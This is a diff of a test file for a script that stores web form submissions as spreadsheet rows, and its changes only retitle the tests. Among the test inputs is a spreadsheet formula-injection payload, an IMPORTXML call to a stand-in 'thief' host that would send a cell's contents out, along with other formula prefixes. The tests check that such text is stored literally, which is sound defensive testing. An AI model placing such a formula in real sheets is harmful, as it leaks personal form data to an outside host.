@@ -10,7 +10,7 @@ const cells = Object.fromEntries(
   Object.entries(forwarded).map(([name, answer]) => [name, [answer].flat().join('; ')]),
 );
 
-test('a form is a row under headings, in the tab of its kind, with the time by which an answer was promised', () => {
+test('spreadsheet: a form is a row under headings, in the tab of its kind, with the time by which an answer was promised', () => {
   const google = new Google();
   expect(google.post(forwarded)).toEqual({ success: true, reference: '4KX7-9QMD' });
   const { submittedAt } = forwarded;
@@ -25,7 +25,7 @@ test('a form is a row under headings, in the tab of its kind, with the time by w
   expect(hours).toEqual([replyHours.enrolment, replyHours.contact]);
 });
 
-test('the columns of the staff, their order and their rows stay; only missing headings are added', () => {
+test('spreadsheet: columns of the staff, their order and their rows stay; only missing headings are added', () => {
   const google = new Google();
   const rows = [
     ['Called?', 'city', ' fullName ', 'Notes'],
@@ -44,7 +44,7 @@ test.each([
   ...['=A2&B2', '=IMPORTXML("https://thief.example/?"&C2,"//a")', '+A2', '-A2', '@A2', '\t=A2'],
   "'=A2",
   ...['01632960001', '+447700900123', '1/2', '2025-03-01', 'May 2025', 'TRUE', '10%', '1e5', '  '],
-])('what was typed stands in its cell letter for letter: %j', (typed) => {
+])('spreadsheet: what was typed is in its cell letter for letter: %j', (typed) => {
   const google = new Google();
   const form = { ...forwarded, businessName: typed, additionalRequirements: `${typed}\n=A2` };
   expect(google.post(form).success).toBe(true);
@@ -53,7 +53,7 @@ test.each([
   ]);
 });
 
-describe('the same form sent twice is one row', () => {
+describe('spreadsheet: the same form sent twice is one row', () => {
   test('by its reference, whatever else the staff have changed in its row', () => {
     const google = new Google();
     google.post(forwarded);
@@ -88,7 +88,7 @@ test.each([
   ['where the script has none', '', secret],
   ['that is another', secret, 'correct-horse-batterx'],
   ['that is missing', secret, ''],
-])('a secret %s stores nothing and says what to do', (_what, own, sent) => {
+])('spreadsheet secret: one %s stores nothing and says what to do', (_what, own, sent) => {
   const google = new Google();
   if (own) google.properties.set('SHEET_SECRET', own);
   const { success, error } = google.post(forwarded, sent);
@@ -98,7 +98,7 @@ test.each([
   expect(google.tabs.size).toBe(0);
 });
 
-test('the secret may have white space around it in the script properties, as pasted text has', () => {
+test('spreadsheet secret: it may have white space around it in the script properties, as pasted text has', () => {
   const google = new Google();
   google.properties.set('SHEET_SECRET', ` ${secret}\n`);
   expect(google.post(forwarded, secret).success).toBe(true);
@@ -116,7 +116,7 @@ test.each<[string, unknown]>([
   ['a formula as the name of a field', { ...forwarded, '=A1': 'x' }],
   ['an answer in the column of the staff', { ...forwarded, answered: 'yes' }],
   ['more columns than a tab has room for', { ...forwarded, ...manyFields }],
-])('%s is refused, and nothing of it is said', (_what, form) => {
+])('spreadsheet: %s is refused, and nothing of it is said', (_what, form) => {
   const google = new Google();
   expect(google.post(form)).toEqual({
     success: false,
@@ -126,7 +126,7 @@ test.each<[string, unknown]>([
   expect(google.log).toEqual([]);
 });
 
-test('while other forms are being written, and where Google fails, it is answered as a failure', () => {
+test('spreadsheet: while other forms are being written, and where Google fails, a form is answered as a failure', () => {
   const google = new Google();
   google.isLocked = true;
   expect(google.post(forwarded).error).toMatch(/busy with other forms/);
@@ -138,7 +138,7 @@ test('while other forms are being written, and where Google fails, it is answere
   expect(google.log).toEqual(['Service invoked too many times.']);
 });
 
-test('opening the address says that it works; install makes both tabs, colours what is late, and changes nothing again', () => {
+test('spreadsheet: its address says that it works; install makes both tabs, colours what is late, and changes nothing again', () => {
   const google = new Google();
   expect(String(google.run('doGet'))).toMatch(/^The script is installed/);
   google.run('install');
@@ -150,7 +150,7 @@ test('opening the address says that it works; install makes both tabs, colours w
   expect(google.tabs).toEqual(tabs);
 });
 
-test('the server knows every sentence that the script may answer', () => {
+test('spreadsheet: the server knows every sentence that the script may answer', () => {
   const [, said = ''] = /\nconst SAY = (\{.*?\n\});/su.exec(scriptSource)!;
   const sentences = [...said.matchAll(/'([^'\n]+)'/gu)].map(([, sentence]) => sentence);
   expect(sentences).toEqual(scriptSentences);
